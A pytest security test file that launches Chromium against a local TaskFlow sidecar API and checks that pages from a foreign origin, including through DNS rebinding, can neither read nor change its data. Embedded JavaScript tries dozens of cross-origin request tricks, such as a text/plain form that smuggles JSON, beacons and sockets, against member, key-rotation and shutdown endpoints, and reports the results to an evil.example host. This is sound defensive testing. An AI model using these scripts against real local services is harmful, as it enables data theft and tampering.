"""Pages in a real Chromium against the running sidecar: a foreign origin reads nothing and changes nothing."""

from __future__ import annotations

import contextlib
import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import pytest

from tests.support.browser import Website, chromium
from tests.support.network import TcpProxy
from tests.support.sidecar import Sidecar

if TYPE_CHECKING:
    from collections.abc import Iterator

FRIEND = "http://friend.example:4711"
MEMBER = {"name": "Ada", "email": "ada@example.com"}
EVIL_MEMBER = {"name": "Eve", "email": "eve@evil.example"}
TELLTALES = ("ada@example.com", "healthy", "alive", "ready", "config_dir", "TaskFlow")
"""Words of the sidecar's answers; none of them may get into the hands of a foreign page."""
REFUSAL = '421 {"error":"The Host header does not name this server"}'

LIBRARY = """
const outcomes = {};
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function attempt(name, run) {
  const late = pause(8000).then(() => ({blocked: 'no end'}));
  try {
    outcomes[name] = await Promise.race([run(), late]);
  } catch (error) {
    outcomes[name] = {blocked: String(error)};
  }
}
async function ask(url, options) {
  const answer = await fetch(url, options);
  if (answer.type === 'opaque') return {opaque: true};
  return {read: answer.status + ' ' + (await answer.text()), headers: Object.fromEntries(answer.headers)};
}
function element(tag, attributes, parent = document.body) {
  return new Promise((resolve) => {
    const node = Object.assign(document.createElement(tag), attributes);
    node.onload = () => resolve({loaded: node});
    node.onerror = () => resolve({blocked: 'error event'});
    parent.append(node);
  });
}
function contentOf(frame) {
  try {
    const text = frame.contentDocument && frame.contentDocument.documentElement.outerHTML;
    return text ? {read: text} : {blocked: 'no document'};
  } catch (error) { return {blocked: String(error)}; }
}
async function framed(url) {
  const outcome = await element('iframe', {src: url});
  return outcome.loaded ? contentOf(outcome.loaded) : outcome;
}
function submitted(url, enctype, fields) {
  return new Promise((resolve) => {
    const name = 'frame' + Math.random();
    const frame = Object.assign(document.createElement('iframe'), {name});
    document.body.append(frame);
    const form = Object.assign(document.createElement('form'), {action: url, method: 'POST', enctype, target: name});
    for (const [key, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement('input'), {name: key, value}));
    }
    document.body.append(form);
    setTimeout(() => { frame.onload = () => resolve(contentOf(frame)); form.submit(); }, 0);
  });
}
function socket(url) {
  return new Promise((resolve) => {
    const opened = new WebSocket(url);
    opened.onopen = () => resolve({read: 'open'});
    opened.onmessage = (event) => resolve({read: event.data});
    opened.onerror = () => resolve({blocked: 'error event'});
  });
}
function stream(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url);
    const close = (outcome) => { source.close(); resolve(outcome); };
    source.onopen = () => close({read: 'open'});
    source.onmessage = (event) => close({read: event.data});
    source.onerror = () => close({blocked: 'error event'});
  });
}
function xhr(method, url, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.setRequestHeader('Authorization', 'Bearer ' + TOKEN);
    request.onload = () => resolve({read: request.status + ' ' + request.responseText});
    request.onerror = () => resolve({blocked: 'error event'});
    request.send(body);
  });
}
const tell = () => fetch(REPORT, {method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes)});
"""

ATTACKS = """
const JSON_HEADERS = {'Content-Type': 'application/json'};
const BEARER = {Authorization: 'Bearer ' + TOKEN};
const BODY = JSON.stringify(EVIL_MEMBER);
const READS = ['/health', '/health/live', '/', '/schema', '/api/v1/status', '/api/v1/members',
  '/api/v1/settings/connection'];
const WRITES = [['POST', '/api/v1/members'], ['PUT', '/api/v1/members'], ['PATCH', MEMBER_PATH],
  ['DELETE', MEMBER_PATH], ['POST', '/api/v1/settings/save-connection'], ['DELETE', '/api/v1/settings/connection'],
  ['POST', '/api/v1/settings/rotate-key'], ['POST', '/api/v1/shutdown']];

(async () => {
  // under a name that is bound anew the page's own site answers until then
  while (BASES.includes(location.origin) && (await fetch('/unknown')).status === 404) await pause(50);
  for (const base of BASES) {
    for (const path of READS) {
      const url = base + path;
      await attempt(`fetch ${url}`, () => ask(url));
      await attempt(`fetch with token ${url}`, () => ask(url, {headers: BEARER}));
      await attempt(`fetch with credentials ${url}`, () => ask(url, {credentials: 'include'}));
      await attempt(`fetch no-cors ${url}`, () => ask(url, {mode: 'no-cors'}));
      await attempt(`fetch HEAD ${url}`, () => ask(url, {method: 'HEAD'}));
      await attempt(`fetch OPTIONS ${url}`, () => ask(url, {method: 'OPTIONS'}));
      await attempt(`xhr ${url}`, () => xhr('GET', url));
      await attempt(`image ${url}`, () => element('img', {src: url}));
      await attempt(`script ${url}`, () => element('script', {src: url}));
      await attempt(`module ${url}`, () => import(url).then(() => ({read: 'imported'})));
      await attempt(`style ${url}`, () => element('link', {rel: 'stylesheet', href: url}));
      await attempt(`frame ${url}`, () => framed(url));
      await attempt(`object ${url}`, () => element('object', {data: url}).then((outcome) =>
        outcome.loaded ? contentOf(outcome.loaded) : outcome));
      await attempt(`worker ${url}`, async () => ({read: String(new Worker(url))}));
    }
    for (const [method, path] of WRITES) {
      const url = base + path;
      const body = method === 'GET' ? undefined : BODY;
      await attempt(`${method} ${url}`, () => ask(url, {method, body, headers: {...JSON_HEADERS, ...BEARER}}));
      await attempt(`plain ${method} ${url}`, () => ask(url, {method, body}));
      await attempt(`xhr ${method} ${url}`, () => xhr(method, url, body));
      if (method !== 'POST') continue;
      await attempt(`no-cors ${url}`, () => ask(url, {method, body, mode: 'no-cors'}));
      await attempt(`beacon ${url}`, async () => { navigator.sendBeacon(url, BODY); return {opaque: true}; });
      for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
        const fields = enctype === 'text/plain' ? {[BODY.slice(0, -1) + ',"x":"']: '"}'} : EVIL_MEMBER;
        await attempt(`form ${enctype} ${url}`, () => submitted(url, enctype, fields));
      }
    }
    await attempt(`events ${base}`, () => stream(base + '/api/v1/status/events'));
    await attempt(`socket ${base}`, () => socket(base.replace('http', 'ws') + '/api/v1/status/events'));
    await attempt(`health socket ${base}`, () => socket(base.replace('http', 'ws') + '/health'));
  }
  for (const [name, outcome] of Object.entries(outcomes)) {
    if (outcome.loaded) outcomes[name] = {read: name};
  }
  await tell();
})();
"""

FRIENDLY = """
(async () => {
  const [base] = BASES;
  const headers = {Authorization: 'Bearer ' + TOKEN, 'Content-Type': 'application/json'};
  await attempt('health', () => ask(base + '/health'));
  await attempt('members', () => ask(base + '/api/v1/members', {headers}));
  const body = JSON.stringify(EVIL_MEMBER);
  await attempt('created', () => ask(base + '/api/v1/members', {method: 'POST', headers, body}));
  await attempt('etag', () => ask(base + MEMBER_PATH, {headers}));
  await attempt('changed', () => ask(base + MEMBER_PATH,
    {method: 'PATCH', headers: {...headers, 'If-Match': outcomes.etag.headers.etag}, body: '{"name": "Grace"}'}));
  await attempt('error', () => ask(base + '/api/v1/members', {headers: {Authorization: 'Bearer wrong'}}));
  await attempt('script', () => element('script', {src: base + '/schema'}));
  await tell();
})();
"""


@dataclass
class Target:
    """A sidecar with one member, and what it looks like from inside."""

    sidecar: Sidecar
    member: dict[str, Any] = field(init=False)
    before: object = field(init=False)

    def __post_init__(self) -> None:
        self.member = self.sidecar.request("POST", "/api/v1/members", json=MEMBER).json()
        self.before = self.state()

    def state(self) -> object:
        """All that a page might have changed."""
        status = self.sidecar.status()
        # without those that are about to replace one: the sidecar writes its own from time to time
        files = sorted(path.name for path in self.sidecar.config_dir.iterdir() if path.suffix != ".tmp")
        key = (self.sidecar.config_dir / "fernet.key").read_bytes()
        members = self.sidecar.request("GET", "/api/v1/members").json()
        return members, status["state"], status["mode"], status["instance"], files, key

    def page(self, script: str, bases: list[str], report: str) -> str:
        """A page that knows even the token."""
        constants = {
            "TOKEN": self.sidecar.token,
            "BASES": bases,
            "REPORT": report,
            "EVIL_MEMBER": EVIL_MEMBER,
            "MEMBER_PATH": f"/api/v1/members/{self.member['id']}",
        }
        declared = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in constants.items())
        return f"<!doctype html><meta charset=utf-8><body><script>\n{declared}{LIBRARY}{script}</script>"


@pytest.fixture
def target() -> Iterator[Target]:
    """A ready sidecar that allows one more origin."""
    with Sidecar(env={"TASKFLOW_ALLOWED_ORIGINS": FRIEND}) as sidecar:
        yield Target(sidecar.wait_settled())


@dataclass(frozen=True)
class Visit:
    """What a page found out, and how many connections reached the sidecar meanwhile."""

    outcomes: dict[str, dict[str, Any]]
    connections: int


def visit(target: Target, script: str, origin: str, names: tuple[str, ...]) -> Visit:
    """Let Chromium open a page of `origin` that runs `script` against the sidecar under several names."""
    port = target.sidecar.port
    host = origin.removeprefix("http://").split(":")[0]
    page = target.page(script, [f"http://{name}:{port}" for name in names], f"{origin}/report")
    with contextlib.ExitStack() as stack:
        site = stack.enter_context(Website(page))
        # between browser and sidecar, to see that requests do come that far
        way = stack.enter_context(TcpProxy(port))
        hosts = {host: site.port} | dict.fromkeys(names, way.port)
        stack.enter_context(chromium(f"{origin}/", hosts=hosts))
        return Visit(site.wait_for_report(), way.accepted)


def test_page_of_a_foreign_origin_reads_and_changes_nothing(target: Target) -> None:
    """Every way a page has to send a request or to show an answer, with the right token even."""
    seen = visit(target, ATTACKS, "http://evil.example:8080", ("127.0.0.1", "localhost"))

    assert len(seen.outcomes) > 200
    assert seen.connections > 20
    assert {name: outcome for name, outcome in seen.outcomes.items() if not {"blocked", "opaque"} & set(outcome)} == {}
    assert not [word for word in TELLTALES if word in json.dumps(list(seen.outcomes.values()))]
    assert target.state() == target.before


def test_page_under_a_name_that_was_bound_anew_is_told_nothing(target: Target) -> None:
    """DNS rebinding: the page's own name now leads to the sidecar, so to the browser both are one origin."""
    port = target.sidecar.port
    origin = f"http://rebind.example:{port}"
    with contextlib.ExitStack() as stack:
        way = TcpProxy(0)

        def bind_anew() -> None:
            way.upstream = ("127.0.0.1", port)

        listener = stack.enter_context(Website(""))
        page = target.page(ATTACKS, [origin], f"http://evil.example:{listener.port}/report")
        site = stack.enter_context(Website(page, on_page=bind_anew))
        way.upstream = ("127.0.0.1", site.port)
        stack.enter_context(way)
        hosts = {"rebind.example": way.port, "evil.example": listener.port}
        stack.enter_context(chromium(f"{origin}/", hosts=hosts))
        outcomes: dict[str, dict[str, Any]] = listener.wait_for_report()

    read = {name: outcome["read"] for name, outcome in outcomes.items() if "read" in outcome}
    fetched = {name: text for name, text in read.items() if name.startswith(("fetch", "xhr", "POST", "PATCH", "plain"))}
    assert len(fetched) > 30
    assert {text for name, text in fetched.items() if "HEAD" not in name} == {REFUSAL}
    assert not [word for word in TELLTALES if word in json.dumps(list(outcomes.values()))]
    assert target.state() == target.before


def test_page_of_an_allowed_origin_reads_and_changes(target: Target) -> None:
    """The same machinery, to see that it would notice: a page that may, and has the token, can do its work."""
    seen = visit(target, FRIENDLY, FRIEND, ("127.0.0.1",))

    read = {name: outcome.get("read", outcome) for name, outcome in seen.outcomes.items()}
    assert read["health"] == '200 {"status":"healthy"}'
    assert "ada@example.com" in read["members"]
    assert read["created"].startswith("201 ")
    assert '"name":"Grace"' in read["changed"]
    assert read["error"] == '401 {"error":"The launch token is missing or wrong"}'
    assert seen.outcomes["error"]["headers"]["taskflow-error-code"] == "unauthorized"
    assert "blocked" in seen.outcomes["script"]
    assert target.state() != target.before
